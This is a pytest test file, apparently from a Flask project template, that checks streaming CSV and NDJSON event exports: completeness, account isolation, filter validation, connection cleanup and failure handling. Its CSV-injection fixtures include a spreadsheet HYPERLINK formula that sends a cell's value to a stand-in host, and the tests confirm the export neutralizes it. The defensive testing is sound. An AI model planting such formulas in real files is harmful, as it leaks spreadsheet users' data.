"""Streaming exports: complete, correct, lazy, tidy when cut off, and of
the caller's own events only."""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, text
from werkzeug.serving import make_server

from {{ cookiecutter.package_name }}.cli import seed_events
from {{ cookiecutter.package_name }}.events import export
from {{ cookiecutter.package_name }}.events.models import Event
from {{ cookiecutter.package_name }}.extensions import db

from support import account_id, checked_out, issue_token, problem_of, wait_for

SOCKET_BUFFER = 16384
TRICKY_PAYLOADS = [
    "",
    "a,b",
    'say "hi"',
    "two\nlines",
    "tab\there",
    "ünïcødé ✓",
    "x" * 300,
]
# Cells a spreadsheet would run as a formula, and what CSV exports write for
# them (NDJSON keeps them as they are). A tab or carriage return in front
# cannot come through the API (whitespace is stripped), only from elsewhere.
FORMULA_PAYLOADS = [
    "=1+2",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    " =not first",
    "a=b",
    "-",
]
NEUTRALIZED_PAYLOADS = [
    "'=1+2",
    "'+1",
    "'-2",
    "'@SUM(A1:A9)",
    '\'=HYPERLINK("http://x.test/?"&A1,"click")',
    "'\t=1+2",
    "'\r=1+2",
    "'=already quoted",
    " =not first",
    "a=b",
    "'-",
]
# Events of another account, which no export of the tester's may contain.
OTHER_ROWS = 321


@pytest.fixture
def seeded_app(make_app: Callable[..., Flask]) -> Flask:
    """1234 events of the tester's account, and some of another account's."""
    app = make_app()
    tester, other = account_id(app), account_id(app, "other")
    with app.app_context():
        seed_events(tester, 1234, batch_size=500, seed=7)
        seed_events(other, OTHER_ROWS, batch_size=500, seed=8)
        db.session.remove()
    return app


def database_rows(app: Flask) -> list[tuple[str, ...]]:
    """Every event of the tester's as the export should write it, in export
    order."""
    owner_id = account_id(app)
    with app.app_context():
        query = export.export_query(owner_id, export.ExportFilters())
        rows = db.session.execute(query).all()
        db.session.remove()
    return [tuple(str(field) for field in export._csv_fields(row)) for row in rows]


def test_csv_export_is_complete_and_ordered(seeded_app: Flask) -> None:
    response = seeded_app.test_client().get("/api/events/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["X-Accel-Buffering"] == "no"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(rows[0]) == export.COLUMNS
    assert len(rows[1:]) == 1234
    assert [tuple(row) for row in rows[1:]] == database_rows(seeded_app)


def test_ndjson_export_is_complete_and_ordered(seeded_app: Flask) -> None:
    response = seeded_app.test_client().get("/api/events/export.ndjson")
    assert response.status_code == 200
    assert response.mimetype == "application/x-ndjson"
    records = [
        json.loads(line) for line in response.get_data(as_text=True).splitlines()
    ]
    expected = database_rows(seeded_app)
    assert len(records) == len(expected) == 1234
    assert [tuple(str(r[c]) for c in export.COLUMNS) for r in records] == expected


def test_awkward_values_survive_the_round_trip(make_app: Callable[..., Flask]) -> None:
    app = make_app()
    client = app.test_client()
    for payload in TRICKY_PAYLOADS:
        client.post(
            "/api/events",
            json={"kind": "k", "amount": "0.10", "payload": payload},
        )
    body = client.get("/api/events/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["payload"] for row in rows] == TRICKY_PAYLOADS
    assert {row["amount"] for row in rows} == {"0.10"}
    lines = client.get("/api/events/export.ndjson").get_data(as_text=True).splitlines()
    assert [json.loads(line)["payload"] for line in lines] == TRICKY_PAYLOADS


def test_filters_narrow_the_export(seeded_app: Flask) -> None:
    tester = account_id(seeded_app)
    with seeded_app.app_context():
        events = db.session.scalars(select(Event)).all()
        db.session.remove()
    middle = sorted(e.created_at for e in events)[len(events) // 2]
    since = middle.isoformat()
    until = (middle + timedelta(days=3)).isoformat()
    expected = {
        str(e.id)
        for e in events
        if e.owner_id == tester
        and e.kind == "purchase"
        and middle <= e.created_at < middle + timedelta(days=3)
    }
    response = seeded_app.test_client().get(
        "/api/events/export.csv",
        query_string={"since": since, "until": until, "kind": "purchase"},
    )
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert {row["id"] for row in rows} == expected
    assert expected, "the filter window should not be empty"


def test_each_account_exports_only_its_own_events(seeded_app: Flask) -> None:
    def owners(client: FlaskClient) -> Counter[int]:
        response = client.get("/api/events/export.ndjson")
        assert response.status_code == 200
        lines = response.get_data(as_text=True).splitlines()
        return Counter(json.loads(line)["owner_id"] for line in lines)

    tester, other = account_id(seeded_app), account_id(seeded_app, "other")
    assert owners(seeded_app.test_client()) == {tester: 1234}
    other_client = seeded_app.test_client(token=issue_token(seeded_app, "other"))
    assert owners(other_client) == {other: OTHER_ROWS}


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("since=2026-01-01T00:00:00", "since"),
        ("since=yesterday", "since"),
        ("since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z", "until"),
        # Exports are of the caller's events: no owner to choose.
        ("owner_id=1", "owner_id"),
        ("kind=Bad Kind", "kind"),
        ("format=xml", "format"),
        ("kind=a%00b", "kind"),
        ("since=2026-01-01T00:00:00Z%00", "since"),
        ("since=9999-12-31T23:59:59-23:59", "since"),
        ("until=0001-01-01T00:00:00%2B14:00", "until"),
        ("until=0999-12-31T23:59:59Z", "until"),
    ],
)
@pytest.mark.parametrize("extension", ["csv", "ndjson"])
def test_bad_filters_are_400(
    make_app: Callable[..., Flask], query: str, field: str, extension: str
) -> None:
    response = make_app().test_client().get(f"/api/events/export.{extension}?{query}")
    assert response.status_code == 400
    assert field in problem_of(response)["errors"]


@pytest.mark.parametrize("chunks_read", [0, 1])
def test_a_closed_stream_returns_its_connection(
    seeded_app: Flask, chunks_read: int
) -> None:
    """The view starts the query (its first chunk is made there), so the
    stream holds one connection from then on, until it ends or is closed,
    whether or not the client read anything."""
    response = seeded_app.test_client().get("/api/events/export.csv", buffered=False)
    assert response.status_code == 200
    assert checked_out(seeded_app) == 1, "the view did not start the query"
    chunks = iter(response.response)
    for _ in range(chunks_read):
        next(chunks)
    assert checked_out(seeded_app) == 1
    response.close()  # what a WSGI server does when the client goes away
    assert checked_out(seeded_app) == 0


def idle_in_transaction(app: Flask) -> int:
    with app.app_context(), db.engine.connect() as connection:
        if connection.dialect.name != "postgresql":
            return 0
        return connection.execute(
            text(
                "SELECT count(*) FROM pg_stat_activity "
                "WHERE datname = current_database() "
                "AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"
            )
        ).scalar_one()


@pytest.fixture
def served(make_app: Callable[..., Flask]) -> Iterator[tuple[Flask, int]]:
    app = make_app()
    owner_id = account_id(app)
    with app.app_context():
        seed_events(owner_id, 20_000, seed=3)
        db.session.remove()
    server = make_server("127.0.0.1", 0, app, threaded=True)
    # Small fixed send buffers (inherited by accepted sockets): the server
    # blocks mid-export instead of handing the whole file to the kernel.
    server.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SOCKET_BUFFER)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield app, server.server_port
    server.shutdown()
    thread.join(timeout=5)


@pytest.mark.parametrize("extension", ["csv", "ndjson"])
def test_a_client_that_hangs_up_leaves_nothing_open(
    served: tuple[Flask, int], extension: str
) -> None:
    app, port = served
    token = issue_token(app)
    with socket.socket() as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SOCKET_BUFFER)
        client.settimeout(10)
        client.connect(("127.0.0.1", port))
        client.sendall(
            f"GET /api/events/export.{extension} HTTP/1.1\r\n"
            f"Host: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
            "Connection: close\r\n\r\n".encode()
        )
        received = client.recv(65536)
        assert b"200 OK" in received
        # The export is under way and stalled on the unread socket.
        wait_for(lambda: checked_out(app) == 1, what="the export to be mid-stream")
        # Hang up mid-stream, dropping the connection hard.
        client.setsockopt(
            socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00"
        )
    wait_for(lambda: checked_out(app) == 0, timeout=30, what="the connection back")
    assert idle_in_transaction(app) == 0


AWKWARD_AMOUNTS = ["0.00", "0.01", "0.10", "12.30", "-5.00", "7", "9999999999.99"]
AWKWARD_TIMES = [
    "2026-05-06T07:08:09+00:00",
    "2026-05-06T07:08:09.000001+02:00",
    "1999-12-31T23:59:59.999999-05:00",
    "1000-01-01T00:00:00.120000+00:00",
]


def test_the_database_formats_rows_as_python_would(
    make_app: Callable[..., Flask],
) -> None:
    """The database writes each column as text (COPY on PostgreSQL, the same
    query elsewhere); the file is byte for byte what Python writes from the
    typed values, for awkward payloads, amounts and timestamps alike."""
    app = make_app()
    client = app.test_client()
    for index, payload in enumerate(TRICKY_PAYLOADS + FORMULA_PAYLOADS[:4]):
        created = client.post(
            "/api/events",
            json={
                "kind": "k",
                "amount": AWKWARD_AMOUNTS[index % len(AWKWARD_AMOUNTS)],
                "payload": payload,
                "occurred_at": AWKWARD_TIMES[index % len(AWKWARD_TIMES)],
            },
        )
        assert created.status_code == 201, created.get_json()
    owner_id = account_id(app)
    with app.app_context():
        seed_events(owner_id, 200, seed=5)
        filters = export.ExportFilters()
        written_csv = b"".join(export.csv_chunks(owner_id, filters)).decode()
        written_ndjson = b"".join(export.ndjson_chunks(owner_id, filters)).decode()
        with db.engine.connect() as connection:
            buffer = io.StringIO()
            writer = csv.writer(buffer, lineterminator="\n")
            writer.writerow(export.COLUMNS)
            lines = []
            query = export.export_query(owner_id, filters)
            for rows in export._stream(connection, query):
                fields = [export._csv_fields(row) for row in rows]
                writer.writerows(map(export._spreadsheet_safe, fields))
                lines += [
                    json.dumps(
                        dict(zip(export.COLUMNS, row, strict=True)),
                        ensure_ascii=False,
                        separators=(",", ":"),
                    )
                    + "\n"
                    for row in fields
                ]
        db.session.remove()
    assert written_csv == buffer.getvalue()
    assert written_ndjson == "".join(lines)
    assert len(lines) == len(TRICKY_PAYLOADS) + 4 + 200


def test_timestamps_are_utc_without_trailing_zeros(
    make_app: Callable[..., Flask],
) -> None:
    app = make_app()
    at = datetime(2026, 5, 6, 7, 8, 9, tzinfo=UTC)
    app.test_client().post(
        "/api/events",
        json={"kind": "k", "amount": "1", "occurred_at": at.isoformat()},
    )
    app.test_client().post(
        "/api/events",
        json={"kind": "k", "amount": "1", "occurred_at": "2026-05-06T09:08:09.5+02:00"},
    )
    rows = list(csv.DictReader(io.StringIO(
        app.test_client().get("/api/events/export.csv").get_data(as_text=True)
    )))  # fmt: skip
    stamps = sorted(row["occurred_at"] for row in rows)
    assert stamps == ["2026-05-06T07:08:09+00:00", "2026-05-06T07:08:09.5+00:00"]
    row = rows[0]
    assert Decimal(row["amount"]) == Decimal("1.00")


def test_csv_exports_neutralize_formulas_in_free_text(
    make_app: Callable[..., Flask],
) -> None:
    """OWASP's CSV injection: a free-text cell starting with = + - @, a tab
    or a carriage return gets a leading single quote in CSV files, from
    COPY on PostgreSQL and from Python elsewhere, byte for byte the same.
    Amounts stay numbers; NDJSON is untouched."""
    app = make_app()
    owner_id = account_id(app)
    with app.app_context():
        for n, payload in enumerate(FORMULA_PAYLOADS):
            db.session.add(
                Event(
                    owner_id=owner_id,
                    kind="-k" if n == 0 else "k",
                    amount=Decimal("-5.00"),
                    payload=payload,
                    occurred_at=datetime(2026, 1, 1, tzinfo=UTC),
                    created_at=datetime(2026, 1, 1, tzinfo=UTC) + timedelta(n),
                )
            )
        db.session.commit()
        db.session.remove()
    client = app.test_client()
    body = client.get("/api/events/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["payload"] for row in rows] == NEUTRALIZED_PAYLOADS
    assert [row["kind"] for row in rows] == ["'-k"] + ["k"] * (len(rows) - 1)
    assert {row["amount"] for row in rows} == {"-5.00"}
    # The same bytes whatever the database: three rows spelled out (as far
    # as the columns this test knows).
    lines = body.split("\n")
    stamp = "2026-01-01T00:00:00+00:00"
    known = f"'-k,-5.00,'=1+2,{stamp},{stamp}"
    assert lines[1].split(",", 2)[2][: len(known)] == known
    assert ',k,-5.00,"\'\r=1+2",' in body
    hyperlink = '"\'=HYPERLINK(""http://x.test/?""&A1,""click"")"'
    assert f",k,-5.00,{hyperlink}," in body
    ndjson = client.get("/api/events/export.ndjson").get_data(as_text=True)
    records = [json.loads(line) for line in ndjson.splitlines()]
    assert [record["payload"] for record in records] == FORMULA_PAYLOADS
    assert records[0]["kind"] == "-k"


def failing_before_first_chunk(owner_id: int, filters: object) -> Iterator[bytes]:
    raise RuntimeError("the query was refused: SELECT secret FROM accounts")
    yield b""  # a generator, like the real ones


@pytest.mark.parametrize("extension", ["csv", "ndjson"])
def test_an_export_failing_before_its_first_byte_is_a_problem(
    make_app: Callable[..., Flask],
    monkeypatch: pytest.MonkeyPatch,
    extension: str,
) -> None:
    """The first chunk is made in the view, so a failure to start the query
    reaches the app's error handlers instead of the WSGI server's HTML 500."""
    app = make_app()
    monkeypatch.setattr(export, f"{extension}_chunks", failing_before_first_chunk)
    token = issue_token(app)
    response = app.test_client().get(
        f"/api/events/export.{extension}",
        headers={"Authorization": f"Bearer {token}", "X-Request-ID": "no-start"},
    )
    assert response.status_code == 500
    assert problem_of(response)["request_id"] == "no-start"
    assert "SELECT" not in response.get_data(as_text=True)


def failing_after_first_chunk(owner_id: int, filters: object) -> Iterator[bytes]:
    yield b"id,owner_id\n"
    raise RuntimeError("the database went away mid-export")


@pytest.mark.parametrize("extension", ["csv", "ndjson"])
def test_an_export_failing_mid_stream_ends_incomplete_and_is_logged(
    make_app: Callable[..., Flask],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    extension: str,
) -> None:
    """After the first byte no error response is possible: the server must
    drop the connection without the terminating chunk, so the client knows
    the file is incomplete, and the failure is logged with the request id."""
    app = make_app()
    monkeypatch.setattr(export, f"{extension}_chunks", failing_after_first_chunk)
    token = issue_token(app)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    received = b""
    try:
        with socket.create_connection(("127.0.0.1", server.server_port)) as client:
            # A keep-alive request: only an aborted connection ends the read.
            client.settimeout(10)
            client.sendall(
                f"GET /api/events/export.{extension} HTTP/1.1\r\n"
                f"Host: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
                "X-Request-ID: mid-stream-failure\r\n\r\n".encode()
            )
            while data := client.recv(65536):
                received += data
    finally:
        server.shutdown()
        thread.join(timeout=5)
    head, _, body = received.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200 OK")
    assert b"transfer-encoding: chunked" in head.lower()
    assert body.startswith(b"c\r\nid,owner_id\n\r\n")
    assert not body.endswith(b"0\r\n\r\n"), "a truncated file looked complete"
    failures = [r for r in caplog.records if r.name.endswith(".events.routes")]
    assert len(failures) == 1
    assert getattr(failures[0], "request_id", None) == "mid-stream-failure"
    assert getattr(failures[0], "account_id", None) == str(account_id(app))
    assert failures[0].exc_info is not None
    assert "went away" in str(failures[0].exc_info[1])
